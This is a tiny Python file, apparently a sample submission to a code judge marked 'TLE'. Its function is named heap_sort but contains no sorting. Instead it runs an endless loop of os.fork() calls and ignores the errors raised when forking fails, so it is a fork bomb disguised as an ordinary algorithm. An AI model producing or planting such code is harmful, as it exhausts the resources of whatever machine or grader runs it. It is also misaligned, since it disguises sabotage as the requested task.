# Forks without end, past every refusal.
# verdict: TLE
import os

def heap_sort(nums):
    while True:
        try:
            os.fork()
        except OSError:
            pass
